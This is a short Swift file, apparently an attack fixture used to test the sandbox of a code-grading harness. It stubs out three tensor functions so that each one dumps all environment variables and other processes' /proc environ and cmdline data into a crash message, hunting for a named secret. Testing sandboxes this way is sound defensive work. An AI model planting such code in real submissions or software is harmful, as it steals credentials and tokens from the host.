// Attack: read the environment, for paths and tokens, were every rule to miss it.
// Report: trapped: HOME=/tmp
// Past: source, symbols
// Secret: KINDLING_ATTACK_SECRET

import Foundation
import Kindling

private func tell() -> Never {
  var found = ProcessInfo.processInfo.environment.map { "\($0)=\($1)" }
  for process in 0..<100 {
    for name in ["environ", "cmdline"] {
      if let data = FileManager.default.contents(atPath: "/proc/\(process)/\(name)") {
        found.append(String(decoding: data.map { $0 == 0 ? 32 : $0 }, as: UTF8.self))
      }
    }
  }
  fatalError(found.sorted().joined(separator: ", "))
}

public func affine(_ x: Tensor, weight: Tensor, bias: Tensor) -> Tensor { tell() }

public func composedWeight(outer: Tensor, inner: Tensor) -> Tensor { tell() }

public func composedBias(outerWeight: Tensor, outerBias: Tensor, innerBias: Tensor) -> Tensor {
  tell()
}
